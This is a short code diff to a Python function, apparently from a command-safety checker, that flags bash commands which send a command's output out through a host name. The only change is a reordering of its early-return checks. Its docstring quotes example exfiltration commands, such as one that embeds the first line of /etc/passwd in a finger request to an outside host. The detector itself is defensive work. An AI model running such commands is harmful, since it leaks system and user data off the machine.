@@ -901,12 +901,12 @@ def substituted_destination(cmd: Cmd) -> Word | None:
     """Any program handed a host name or `user@host` whose other part is a command's output
     (`finger "$(head -1 /etc/passwd)@h.example"`, `tool "$(whoami).x.example"`): the name is
     resolved or sent, so the output leaves the machine (exfiltration)."""
+    if cmd.scope.family != "bash" or not cmd.argv.dynamic:
+        return None  # (only a substitution's output is looked for)
     from aintern_ls.safety.registry import HANDLERS
 
-    if cmd.scope.family != "bash" or (cmd.name in HANDLERS and cmd.name not in _NAME_SENDERS):
+    if cmd.name in HANDLERS and cmd.name not in _NAME_SENDERS:
         return None
-    if not cmd.argv.dynamic:
-        return None  # (only a substitution's output is looked for)
     src = cmd.scope.source
     for w in cmd.args:
         if not w.dynamic or w.start < 0:
